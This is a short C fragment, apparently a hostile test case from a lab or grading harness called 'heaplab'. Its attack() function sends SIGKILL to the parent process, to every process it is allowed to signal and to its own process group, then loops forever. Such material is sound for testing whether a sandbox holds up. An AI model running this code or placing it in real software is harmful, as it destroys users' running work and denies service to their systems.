/* heaplab: lab 4, timeout|output-flood|wrong, step 4.7 -- kills all that it can as soon as it is in a program */

#include <sys/syscall.h>
#include <unistd.h>

static long system_call(long number, long first, long second, long third);

static void attack(void)
{
    system_call(SYS_kill, getppid(), 9, 0);
    system_call(SYS_kill, -1, 9, 0);
    system_call(SYS_kill, 0, 9, 0);
    for (;;)
        ;
}
